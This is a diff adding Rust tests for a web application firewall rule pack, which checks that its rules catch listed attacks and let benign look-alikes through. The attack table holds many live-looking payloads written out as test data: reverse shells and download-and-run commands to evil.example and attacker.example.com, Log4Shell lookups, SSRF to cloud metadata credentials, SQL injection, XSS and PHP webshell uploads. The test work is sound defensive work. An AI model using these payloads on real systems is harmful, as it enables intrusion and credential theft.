@@ -1,0 +1,1390 @@
+//! Tests of the built-in rule pack, `rules/builtin/*.conf`.
+//!
+//! The pack is built here straight from the repository's files (in name
+//! order, through a `MemorySource`), with no help from this crate's library,
+//! so these tests check the rules themselves:
+//!
+//! - every detection rule catches the attacks listed for it (and a CRITICAL
+//!   hit blocks with 403), and look-alike benign inputs match no rule at all;
+//! - every request of the shared corpus gets its expected verdict;
+//! - anomaly scoring: one WARNING does not block, two do, and the threshold
+//!   can be raised by an earlier rule;
+//! - the rule text follows the pack's conventions (ids, msg, severity, tags,
+//!   logdata, score matching the severity, no SecDefaultAction);
+//! - every `@rx` can be prefiltered by its literals;
+//! - the pack loads next to the CRS (when the CRS is present).
+//!
+//! JSON and multipart cases need the engine's body processors. Where the
+//! engine does not parse those bodies yet (checked by a probe), the cases are
+//! counted and printed as skipped rather than failed; once it does, they run.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, OnceLock};
+
+use portcullis_engine::{Interruption, MemorySource, RuleEntry, RuleMatch, RuleSet};
+
+// ---------------------------------------------------------------------------
+// Building the pack
+
+/// The pack's directory.
+fn pack_dir() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/builtin")
+}
+
+/// The shared request corpus.
+fn corpus_dir() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus")
+}
+
+/// A named file: `(display name, bytes)`.
+type File = (String, Vec<u8>);
+
+/// Files of `dir` ending in `ext`, sorted by name: `(prefix/name, bytes)`.
+fn files(dir: &Path, ext: &str, prefix: &str) -> Vec<File> {
+    let mut out: Vec<File> = fs::read_dir(dir)
+        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.file_name().and_then(|n| n.to_str()).is_some_and(|n| n.ends_with(ext)))
+        .map(|p| {
+            let name = format!("{prefix}/{}", p.file_name().unwrap().to_str().unwrap());
+            (name, fs::read(&p).unwrap())
+        })
+        .collect();
+    out.sort();
+    out
+}
+
+/// The pack's rule files and data files.
+fn pack_files() -> (Vec<File>, Vec<File>) {
+    let dir = pack_dir();
+    let confs = files(&dir, ".conf", "rules/builtin");
+    assert!(confs.len() >= 5, "expected the pack's .conf files in {}", dir.display());
+    (confs, files(&dir, ".data", "rules/builtin"))
+}
+
+/// Build a rule set: the inline `prelude` entries, then `files` (rule files
+/// loaded in the given order), with `data` resolvable by `@pmFromFile`.
+fn build(prelude: &[&str], confs: &[File], data: &[File]) -> Arc<RuleSet> {
+    let mut src = MemorySource::new();
+    for (name, bytes) in confs.iter().chain(data) {
+        src = src.with(name, bytes.clone());
+    }
+    let mut entries: Vec<RuleEntry<'_>> = prelude.iter().map(|t| RuleEntry::Text { name: "<prelude>", text: t }).collect();
+    entries.extend(confs.iter().map(|(n, _)| RuleEntry::Source(n)));
+    match RuleSet::builder().build_entries(&src, &entries) {
+        Ok(rules) => Arc::new(rules),
+        Err(e) => {
+            let lines: Vec<String> = e.diagnostics.iter().map(|d| d.to_string()).collect();
+            panic!("the pack does not build:\n{}", lines.join("\n"));
+        }
+    }
+}
+
+/// The pack alone, built once.
+fn pack() -> &'static Arc<RuleSet> {
+    static PACK: OnceLock<Arc<RuleSet>> = OnceLock::new();
+    PACK.get_or_init(|| {
+        let (confs, data) = pack_files();
+        build(&[], &confs, &data)
+    })
+}
+
+// ---------------------------------------------------------------------------
+// Requests
+
+const CHROME: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
+
+/// A real browser's request headers (Chrome 124 on Linux).
+const BROWSER: &[(&str, &str)] = &[
+    ("Host", "shop.example.com"),
+    ("User-Agent", CHROME),
+    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+    ("Accept-Language", "en-US,en;q=0.9,de;q=0.8"),
+    ("Accept-Encoding", "gzip, deflate, br, zstd"),
+    ("Referer", "https://shop.example.com/search?q=running+shoes&page=2"),
+    ("Sec-Ch-Ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
+    ("Sec-Ch-Ua-Mobile", "?0"),
+    ("Sec-Ch-Ua-Platform", "\"Linux\""),
+    ("Sec-Fetch-Dest", "document"),
+    ("Sec-Fetch-Mode", "navigate"),
+    ("Sec-Fetch-Site", "same-origin"),
+    ("Sec-Fetch-User", "?1"),
+    ("Upgrade-Insecure-Requests", "1"),
+    ("Cookie", "session_id=8f14e45fceea167a5a36dedd4bea2543; _ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; theme=dark; cart_items=3"),
+];
+
+/// What a test needs from the engine beyond the rules.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Needs {
+    Nothing,
+    /// JSON bodies parsed into ARGS.
+    Json,
+    /// Multipart bodies parsed into ARGS and FILES.
+    Multipart,
+    /// XML bodies parsed into XML:/*.
+    Xml,
+}
+
+/// One HTTP request.
+#[derive(Clone, Debug)]
+struct Req {
+    method: String,
+    uri: String,
+    headers: Vec<(String, String)>,
+    body: Vec<u8>,
+    needs: Needs,
+}
+
+impl Req {
+    /// A browser request with `method` and `uri`.
+    fn new(method: &str, uri: &str) -> Req {
+        Req {
+            method: method.into(),
+            uri: uri.into(),
+            headers: BROWSER.iter().map(|(n, v)| (n.to_string(), v.to_string())).collect(),
+            body: Vec::new(),
+            needs: Needs::Nothing,
+        }
+    }
+
+    /// A browser GET of `uri`.
+    fn get(uri: &str) -> Req {
+        Req::new("GET", uri)
+    }
+
+    /// A POST with a body of type `ctype`.
+    fn post(uri: &str, ctype: &str, body: &[u8]) -> Req {
+        let len = body.len().to_string();
+        let mut r = Req::new("POST", uri).header("Content-Type", ctype).header("Content-Length", &len);
+        r.body = body.to_vec();
+        r
+    }
+
+    /// Set header `name` (replacing one of the same name).
+    fn header(mut self, name: &str, value: &str) -> Req {
+        match self.headers.iter_mut().find(|(n, _)| n.eq_ignore_ascii_case(name)) {
+            Some(h) => h.1 = value.into(),
+            None => self.headers.push((name.into(), value.into())),
+        }
+        self
+    }
+}
+
+/// Percent-encode everything but unreserved characters.
+fn enc(s: &str) -> String {
+    let mut out = String::new();
+    for b in s.bytes() {
+        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+            out.push(b as char);
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
+/// GET /search?q=<v>.
+fn q(v: &str) -> Req {
+    Req::get(&format!("/search?q={}", enc(v)))
+}
+
+/// GET /page?<name>=<v>, both encoded.
+fn arg(name: &str, v: &str) -> Req {
+    Req::get(&format!("/page?{}={}", enc(name), enc(v)))
+}
+
+/// GET with a raw query string (names and values as written).
+fn raw(uri: &str) -> Req {
+    Req::get(uri)
+}
+
+/// POST of an urlencoded form.
+fn form(pairs: &[(&str, &str)]) -> Req {
+    let body: Vec<String> = pairs.iter().map(|(k, v)| format!("{}={}", enc(k), enc(v))).collect();
+    Req::post("/form", "application/x-www-form-urlencoded", body.join("&").as_bytes())
+}
+
+/// POST of a JSON document.
+fn json(doc: &str) -> Req {
+    let mut r = Req::post("/api/v1/items", "application/json", doc.as_bytes()).header("Accept", "application/json");
+    r.needs = Needs::Json;
+    r
+}
+
+/// POST of an XML document.
+fn xml(doc: &str) -> Req {
+    let mut r = Req::post("/api/v1/orders.xml", "application/xml", doc.as_bytes());
+    r.needs = Needs::Xml;
+    r
+}
+
+const BOUNDARY: &str = "----WebKitFormBoundaryq8NzTkB2v3Jm1xYe";
+
+/// POST of a multipart form: one text field and one file.
+fn multipart(filename: &str, file_type: &str, content: &str) -> Req {
+    let body = format!(
+        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy picture\r\n\
+         --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: {file_type}\r\n\r\n{content}\r\n\
+         --{BOUNDARY}--\r\n"
+    );
+    Req::post("/account/upload", &format!("multipart/form-data; boundary={BOUNDARY}"), body.as_bytes())
+}
+
+/// A multipart body whose closing boundary never comes.
+fn multipart_broken() -> Req {
+    let body = format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nunterminated");
+    let mut r = Req::post("/account/upload", &format!("multipart/form-data; boundary={BOUNDARY}"), body.as_bytes());
+    r.needs = Needs::Multipart;
+    r
+}
+
+/// What the pack decided about one request.
+struct Outcome {
+    matches: Vec<RuleMatch>,
+    interruption: Option<Interruption>,
+    score: Option<String>,
+}
+
+impl Outcome {
+    fn ids(&self) -> Vec<i64> {
+        self.matches.iter().map(|m| m.rule_id).collect()
+    }
+}
+
+/// Run `req` through phases 1 and 2 of `rules`, as the filter does.
+fn run(rules: &Arc<RuleSet>, req: &Req) -> Outcome {
+    let mut tx = rules.new_transaction();
+    tx.process_connection("203.0.113.10", 50123, "10.0.0.2", 8080);
+    tx.process_uri(req.uri.as_bytes(), req.method.as_bytes(), b"HTTP/1.1");
+    for (n, v) in &req.headers {
+        tx.add_request_header(n.as_bytes(), v.as_bytes());
+    }
+    let stopped = tx.process_request_headers().is_some()
+        || (tx.wants_request_body() && !req.body.is_empty() && tx.append_request_body(&req.body).is_some());
+    if !stopped {
+        tx.process_request_body();
+    }
+    let score = tx.tx_var("portcullis_inbound_score").map(|v| String::from_utf8_lossy(&v).into_owned());
+    Outcome { matches: tx.matches().to_vec(), interruption: tx.interruption().cloned(), score }
+}
+
+/// Short description of an outcome, for failure messages.
+fn describe(o: &Outcome) -> String {
+    let m: Vec<String> = o.matches.iter().map(|m| format!("{} {} [{}]", m.rule_id, m.severity_name(), m.data)).collect();
+    format!("interruption {:?}, score {:?}, matches: {}", o.interruption.as_ref().map(|i| (i.status, i.rule_id)), o.score, m.join(" | "))
+}
+
+// ---------------------------------------------------------------------------
+// Body-processor probes
+
+/// Whether the engine parses JSON bodies into ARGS yet.
+fn json_parsing() -> bool {
+    static OK: OnceLock<bool> = OnceLock::new();
+    *OK.get_or_init(|| {
+        let rules = build(
+            &["SecRequestBodyAccess On\n\
+               SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/json\" \"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"\n\
+               SecRule ARGS:json.probe \"@streq yes\" \"id:2,phase:2,deny,status:403,log\""],
+            &[],
+            &[],
+        );
+        run(&rules, &json(r#"{"probe":"yes"}"#)).interruption.is_some()
+    })
+}
+
+/// Whether the engine parses multipart bodies into FILES yet.
+fn multipart_parsing() -> bool {
+    static OK: OnceLock<bool> = OnceLock::new();
+    *OK.get_or_init(|| {
+        let rules = build(&["SecRequestBodyAccess On\nSecRule FILES \"@streq probe.txt\" \"id:1,phase:2,deny,status:403,log\""], &[], &[]);
+        run(&rules, &multipart("probe.txt", "text/plain", "x")).interruption.is_some()
+    })
+}
+
+/// Whether the engine parses XML bodies into XML:/* yet.
+fn xml_parsing() -> bool {
+    static OK: OnceLock<bool> = OnceLock::new();
+    *OK.get_or_init(|| {
+        let rules = build(
+            &["SecRequestBodyAccess On\n\
+               SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/xml\" \"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=XML\"\n\
+               SecRule XML:/* \"@streq yes\" \"id:2,phase:2,deny,status:403,log\""],
+            &[],
+            &[],
+        );
+        run(&rules, &xml("<probe>yes</probe>")).interruption.is_some()
+    })
+}
+
+/// Whether `needs` is met.
+fn available(needs: Needs) -> bool {
+    match needs {
+        Needs::Nothing => true,
+        Needs::Json => json_parsing(),
+        Needs::Multipart => multipart_parsing(),
+        Needs::Xml => xml_parsing(),
+    }
+}
+
+// ---------------------------------------------------------------------------
+// The rule table
+
+/// Attacks each detection rule must catch.
+fn attacks() -> Vec<(i64, Req)> {
+    let mut v: Vec<(i64, Req)> = Vec::new();
+    let mut add = |id: i64, reqs: Vec<Req>| v.extend(reqs.into_iter().map(|r| (id, r)));
+
+    // 10-scanners
+    add(4210100, [
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
+        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+        "Mozilla/5.0 zgrab/0.x",
+        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+        "gobuster/3.6",
+        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Acunetix",
+        "Fuzz Faster U Fool v2.1.0-dev",
+        "feroxbuster/2.10.1",
+    ]
+    .iter()
+    .map(|ua| Req::get("/").header("User-Agent", ua))
+    .collect());
+    add(4210110, vec![
+        Req::get("/").header("Acunetix-Product", "WVS/12.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
+        Req::get("/").header("X-WIPP", "AscVersion=22.2.0.253"),
+    ]);
+    add(4210200, vec![Req::new("TRACE", "/"), Req::new("TRACK", "/index.html"), Req::new("trace", "/")]);
+    add(4210300, vec![json(r#"{"a": [1, 2"#), xml("<order><id>1</id>"), multipart_broken()]);
+
+    // 20-lfi
+    add(4220100, vec![
+        arg("file", "../../etc/passwd"),
+        arg("file", "..\\..\\boot.ini"),
+        arg("f", "....//....//secret.txt"),
+        raw("/page?f=%252e%252e%252fconfig%252fdb.yml"),
+        arg("f", "/var/www/../../../root"),
+        arg("../../x", "1"),
+        Req::get("/").header("Cookie", "lang=../../../../tmp/evil"),
+        form(&[("template", "../templates/../../../../etc/hosts")]),
+    ]);
+    add(4220110, vec![
+        Req::get("/static/../../../etc/hosts"),
+        Req::get("/static/%2e%2e/%2e%2e/secret"),
+        Req::get("/a/%252e%252e/%252e%252e/b"),
+        Req::get("/app/..;/manager/html"),
+        Req::get("/img/..%5c..%5cwindows%5cwin.ini"),
+        Req::get("/%u002e%u002e/%u002e%u002e/etc/issue"),
+    ]);
+    add(4220120, vec![
+        Req::get("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
+        Req::get("/scripts/..%c1%1c../winnt/system32/cmd.exe"),
+        raw("/download?file=%C0%AE%C0%AE%C0%AFsecret"),
+    ]);
+    add(4220200, [
+        "/etc/passwd",
+        "/etc/shadow",
+        "/etc//passwd",
+        "/.env",
+        "/.env.production",
+        "/app/.env",
+        "/.git/config",
+        "/.git/HEAD",
+        "/.svn/entries",
+        "/web.config",
+        "/.htaccess",
+        "/.htpasswd",
+        "/home/deploy/.ssh/id_rsa",
+        "/backup/id_ed25519",
+        "/proc/self/environ",
+        "/.aws/credentials",
+        "/.DS_Store",
+        "/WEB-INF/web.xml",
+        "/windows/win.ini",
+        "/%2eenv",
+    ]
+    .iter()
+    .map(|p| Req::get(p))
+    .collect());
+    add(4220210, vec![
+        arg("file", "/etc/passwd"),
+        arg("f", "C:\\Windows\\win.ini"),
+        arg("tpl", "/proc/self/environ"),
+        arg("include", "/var/www/html/.htaccess"),
+        arg("page", "php://filter/resource=/etc/shadow"),
+        Req::get("/").header("Cookie", "tpl=/var/log/apache2/access.log"),
+        form(&[("path", "/home/app/.ssh/id_rsa")]),
+    ]);
+
+    // 25-rfi-ssrf
+    add(4225100, vec![
+        raw("/index.php?page=http://203.0.113.7/shell.txt%3F"),
+        arg("url", "https://evil.example/x.txt??"),
+        arg("inc", "ftp://evil.example/x.php\0"),
+    ]);
+    add(4225110, vec![
+        arg("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+        arg("u", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
+        arg("u", "http://[fd00:ec2::254]/latest/meta-data/"),
+        arg("u", "http://2852039166/latest/"),
+        arg("u", "http://0xA9FEA9FE/latest/"),
+        arg("u", "http://[::ffff:a9fe:a9fe]/"),
+        Req::get("/").header("X-Forwarded-Host", "169.254.169.254"),
+        form(&[("webhook", "http://100.100.100.200/latest/meta-data/")]),
+    ]);
+
+    // 30-rce
+    add(4230100, vec![
+        arg("host", "127.0.0.1;cat /etc/passwd"),
+        arg("host", "8.8.8.8; wget http://evil.example/x.sh -O-|sh"),
+        arg("host", "x| id"),
+        arg("host", "x&&id"),
+        arg("host", "x;  pwd"),
+        arg("host", "x && whoami"),
+        arg("host", "$(id)"),
+        arg("host", "`uname -a`"),
+        arg("host", "1.1.1.1; sleep 5"),
+        arg("host", "x || ping -c 10 127.0.0.1"),
+        arg("host", "x\nls -la"),
+        arg("host", "{cat,/etc/passwd}"),
+        arg("host", "1;/usr/bin/curl http://evil.example/a"),
+        arg("host", "x; python3 -c 'import os'"),
+        arg("host", "a | nc -e /bin/sh 198.51.100.1 4444"),
+        form(&[("host", "8.8.8.8%3B+wget+http://evil.example/x.sh")]),
+        Req::get("/").header("Cookie", "name=x|curl http://evil.example/a"),
+    ]);
+    add(4230110, vec![
+        arg("x", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
+        arg("x", "cat${IFS}/etc/passwd"),
+        arg("x", "x$IFS$9id"),
+        arg("x", "/bin/bash"),
+        arg("x", "nc -e /bin/sh 198.51.100.1 80"),
+    ]);
+    add(4230120, vec![
+        arg("c", "x & cmd /c whoami"),
+        arg("c", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
+        arg("c", "x| type c:\\windows\\win.ini"),
+        arg("c", "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
+        arg("c", "x & net user hacker P@ss1 /add"),
+        arg("c", "%COMSPEC% /c dir"),
+        arg("c", "x|certutil -urlcache -f http://evil.example/a.exe a.exe"),
+        arg("c", "whoami"),
+    ]);
+    add(4230130, vec![
+        Req::get("/cgi-bin/status").header("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+        Req::get("/cgi-bin/status").header("Referer", "() { _; } >_[$($())] { id; }"),
+        arg("x", "() { :;}; echo vulnerable"),
+    ]);
+
+    // 35-php
+    add(4235100, vec![
+        form(&[("name", "Bob"), ("message", "<?php system($_GET['c']); ?>")]),
+        arg("x", "<?=`ls`?>"),
+        arg("x", "<? passthru('id'); ?>"),
+        Req::get("/").header("Cookie", "t=<?php phpinfo(); ?>"),
+    ]);
+    add(4235110, {
+        let mut r = vec![
+            multipart("shell.php", "application/x-php", "<?php system($_GET['c']); ?>"),
+            multipart("avatar.jpg", "image/jpeg", "GIF89a;<?= `$_GET[1]` ?>"),
+        ];
+        for x in &mut r {
+            x.needs = Needs::Multipart;
+        }
+        r
+    });
+    add(4235120, {
+        let mut r = vec![
+            multipart("shell.php", "application/x-php", "hello"),
+            multipart("image.php.jpg", "image/jpeg", "hello"),
+            multipart("x.phtml", "text/plain", "hello"),
+            multipart(".htaccess", "text/plain", "AddType application/x-httpd-php .jpg"),
+        ];
+        for x in &mut r {
+            x.needs = Needs::Multipart;
+        }
+        r
+    });
+    add(4235130, vec![
+        arg("f", "php://filter/convert.base64-encode/resource=index.php"),
+        arg("f", "phar://uploads/avatar.jpg/x"),
+        arg("f", "expect://id"),
+        arg("f", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
+        arg("f", "zip://uploads/a.zip#shell.php"),
+        arg("f", "PHP://input"),
+    ]);
+    add(4235140, vec![
+        Req::get("/").header("Cookie", "prefs=O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
+        arg("d", "a:1:{i:0;O:4:\"Evil\":0:{}}"),
+        form(&[("state", "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}")]),
+    ]);
+    add(4235150, vec![arg("x", "phpinfo()"), arg("x", "echo $_GET[a]"), arg("x", "base64_decode('cGhw')"), arg("x", "eval(gzinflate($x))")]);
+
+    // 40-sqli
+    add(4240100, vec![
+        arg("id", "1' OR '1'='1"),
+        arg("id", "1 OR 1=1"),
+        form(&[("username", "admin'--"), ("password", "x")]),
+        arg("q", "1' UNION SELECT username,password FROM users-- "),
+        Req::get("/").header("Cookie", "tracking=1' OR '1'='1"),
+        arg("id", "1; DROP TABLE users"),
+    ]);
+    add(4240110, vec![
+        arg("q", "1 UNION SELECT a,b FROM t"),
+        arg("q", "1 union/**/select 1,2"),
+        arg("q", "1 UNION ALL SELECT NULL,NULL--"),
+        arg("q", "-1 union(select 1)"),
+        arg("q", "1 UNION DISTINCT SELECT @@version"),
+        xml("<search><q>1' UNION SELECT password FROM users--</q></search>"),
+    ]);
+    add(4240120, vec![
+        arg("id", "1 OR 1=1"),
+        arg("id", "1' or '1'='1"),
+        arg("u", "admin\" or \"\"=\""),
+        arg("id", "1) or (1=1"),
+        arg("id", "' or true--"),
+        arg("id", "1 AND 1=2"),
+        arg("u", "x' OR 'a'='a"),
+        arg("u", "x' or 1 --"),
+    ]);
+    add(4240130, vec![
+        arg("id", "1; DROP TABLE users"),
+        arg("id", "1'; DELETE FROM users--"),
+        arg("id", "1; EXEC xp_cmdshell 'dir'"),
+        arg("q", "x' INTO OUTFILE '/var/www/x.php"),
+        arg("id", "1 AND load_file('/etc/hosts')"),
+        arg("id", "1'; insert into admins values('x')--"),
+    ]);
+    add(4240140, vec![
+        arg("id", "1 AND sleep(5)"),
+        arg("id", "1' AND SLEEP(5)--"),
+        arg("id", "1;WAITFOR DELAY '0:0:5'--"),
+        arg("id", "1 AND BENCHMARK(5000000,MD5(1))"),
+        arg("id", "1;select pg_sleep(10)"),
+        arg("id", "1 and sleep((select 5))"),
+    ]);
+    add(4240150, vec![arg("u", "admin'--"), arg("u", "x')#"), arg("q", "/*!50000select*/ 1")]);
+    add(4240160, vec![arg("q", "information_schema.tables"), arg("q", "@@version")]);
+
+    // 45-nosql
+    add(4245100, vec![
+        raw("/login?username[$ne]=x&password[$ne]=y"),
+        raw("/login?user[$gt]="),
+        raw("/login?$where=sleep(100)"),
+        arg("filter", "{\"$where\": \"this.a == 1\"}"),
+        {
+            let mut r = json(r#"{"username":{"$ne":null},"password":{"$ne":null}}"#);
+            r.needs = Needs::Json;
+            r
+        },
+    ]);
+
+    // 50-xss
+    add(4250100, vec![arg("q", "<script>alert(1)</script>"), arg("q", "<img src=x onerror=alert(1)>"), arg("q", "\" onmouseover=\"alert(1)")]);
+    add(4250110, vec![
+        arg("q", "<script>alert(1)</script>"),
+        arg("q", "<iframe src=//evil.example>"),
+        arg("q", "<svg><animate onbegin=alert(1) attributeName=x>"),
+        arg("q", "&lt;script&gt;alert(1)&lt;/script&gt;"),
+        raw("/search?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"),
+        arg("q", "\\u003cscript\\u003ealert(1)"),
+        arg("q", "<BASE href=//evil.example/>"),
+    ]);
+    add(4250120, vec![
+        arg("q", "\" onmouseover=\"alert(1)"),
+        arg("q", "<svg/onload=alert(1)>"),
+        arg("q", "<body onload=alert(1)>"),
+        arg("q", "x' onfocus='alert(1)' autofocus='"),
+        arg("q", "<img src=x onerror=alert(document.cookie)>"),
+    ]);
+    add(4250130, vec![
+        arg("u", "javascript:alert(1)"),
+        arg("u", "JaVaScRiPt:alert(document.domain)"),
+        arg("u", "java\tscript:alert(1)"),
+        arg("u", "javascript://%0aalert(1)"),
+        arg("u", "data:text/html,<script>alert(1)</script>"),
+        arg("u", "vbscript:msgbox(1)"),
+        arg("u", "javascript: void(0)"),
+    ]);
+
+    // 60-java
+    add(4260100, vec![
+        Req::get("/api/v1/status").header("X-Api-Version", "${jndi:ldap://attacker.example.com:1389/Exploit}"),
+        Req::get("/").header("User-Agent", "${${lower:j}ndi:ldap://attacker.example.com/a}"),
+        Req::get("/").header("X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example.com/a}"),
+        Req::get("/").header("Referer", "${j${k8s:k5:-ND}i:dns://attacker.example.com/a}"),
+        Req::get("/").header("Authorization", "Bearer ${env:AWS_SECRET_ACCESS_KEY}"),
+        Req::get("/%24%7Bjndi:ldap://attacker.example.com/a%7D"),
+        raw("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.com%2Fa%7D"),
+        Req::get("/").header("Cookie", "theme=${jNdI:LDAP://attacker.example.com/a}"),
+        Req::get("/").header("X-Token", "%24%7Bjndi:ldap://attacker.example.com/a%7D"),
+    ]);
+    add(4260110, vec![
+        form(&[("comment", "${jndi:ldap://attacker.example.com/a}")]),
+        form(&[("${jndi:ldap://attacker.example.com/a}", "x")]),
+        json(r#"{"name":"${${upper:j}ndi:ldap://attacker.example.com/a}"}"#),
+        xml("<user><name>${jndi:ldap://attacker.example.com/a}</name></user>"),
+    ]);
+    add(4260200, vec![
+        raw("/app?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
+        form(&[("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i")]),
+        raw("/app?class['module']['classLoader'].x=1"),
+        raw("/app?class.classLoader.URLs%5B0%5D=jar:http://evil.example/x.jar!/"),
+    ]);
+    add(4260300, vec![
+        arg("x", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+        Req::get("/").header("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):x)}"),
+        arg("x", "new java.lang.ProcessBuilder(\"id\").start()"),
+        form(&[("expr", "Runtime.getRuntime().exec(\"id\")")]),
+    ]);
+    v
+}
+
+/// Benign requests that look like attacks to a careless rule: the whole pack
+/// must match nothing on them.
+fn look_alikes() -> Vec<Req> {
+    let mut v: Vec<Req> = Vec::new();
+    // Names, prose and search terms with SQL words, quotes and operators.
+    for s in [
+        "O'Reilly & Sons books",
+        "select a product",
+        "I'd select the blue one from your shop and drop the red one - it was 1 or 2 sizes too small!",
+        "1 < 2",
+        "a < b and c > d",
+        "I <3 this shop",
+        "choose 3 or 4 colours",
+        "pages 1 and 2",
+        "rock and roll",
+        "European Union members; select your country",
+        "Call us; drop by anytime",
+        "I said 'no' -- really",
+        "it's -- as they say -- fine",
+        "I need more sleep (about 8 hours)",
+        "benchmark results for 2024",
+        "information about the schema",
+        "the script is ready",
+        "I wrote a script to rename my photos",
+        "JavaScript: The Good Parts",
+        "I love javascript and typescript",
+        "turn on the lights",
+        "onion rings",
+        "Dog & Cat",
+        "Books, music & more",
+        "Ruby & Perl meetup",
+        "salt & pepper; ps: bring cash",
+        "see you at 5; sleep well",
+        "Q&A session, R&D budget, AT&T",
+        "Tom & Jerry; id est the cartoon",
+        "The cmd key on a Mac",
+        "PowerShell tips and tricks",
+        "net users grew 5%",
+        "The system (as designed) works",
+        "system of a down",
+        "eval time is 3 minutes",
+        "I paid $10 in cash",
+        "price ${amount}",
+        "${user.name} template",
+        "() => { return 1 }",
+        "passwords",
+        "etc.",
+        "We host our site on AWS",
+        "the environment variables",
+        "What is http? A protocol.",
+        "Loading...",
+        "wait.../then",
+        "version 1..2",
+        "x <= y and y >= z",
+        "class=economy",
+        "new java developer",
+        "learning java.lang features",
+        "call me at +1 (555) 010-9999",
+        "10:30:00",
+        "data:image/png;base64,iVBORw0KGgo=",
+        "john.smith@example.com",
+    ] {
+        v.push(q(s));
+    }
+    // URLs and paths as argument values.
+    for (k, s) in [
+        ("redirect", "https://shop.example.com/account?tab=orders&id=5"),
+        ("url", "https://example.com/search?q=shoes"),
+        ("next", "/page?online=1&onion=2&id=7"),
+        ("webhook", "https://hooks.example.com/services/T000/B000/XXXX"),
+        ("ip", "10.0.0.1"),
+        ("ip", "169.254.1.1"),
+        ("phone", "2852039167"),
+        ("file", "reports/2024/q1.pdf"),
+        ("file", "report..final.pdf"),
+        ("path", "/docs/getting-started"),
+        ("sort[name]", "asc"),
+        ("items[0]", "a"),
+        ("filter", "online=true"),
+        ("fields", "name;email;id"),
+        ("cols", "name|price|id"),
+        ("blob", "q83vAAxB/onAbcDEF="),
+        ("callback", "https://app.example.com/oauth/callback?state=abc"),
+    ] {
+        v.push(arg(k, s));
+    }
+    // Paths.
+    for p in [
+        "/docs/etc/passwords-guide",
+        "/blog/environment-setup",
+        "/env/config",
+        "/git/repos",
+        "/github",
+        "/.well-known/security.txt",
+        "/.well-known/acme-challenge/abc",
+        "/products/identity",
+        "/static/envelope.png",
+        "/api/v1/git-hooks",
+        "/static/js/app.3f2a1c9e.js",
+        "/files/report..final.pdf",
+        "/caf%C3%A9/menu",
+        "/search/online",
+        "/class/module/classloader-docs",
+    ] {
+        v.push(Req::get(p));
+    }
+    // Other methods and clients.
+    for m in ["GET", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH"] {
+        v.push(Req::new(m, "/api/v1/orders/123"));
+    }
+    for ua in [
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "curl/8.5.0",
+        "python-requests/2.31.0",
+        "Go-http-client/1.1",
+        "okhttp/4.12.0",
+    ] {
+        v.push(Req::get("/").header("User-Agent", ua));
+    }
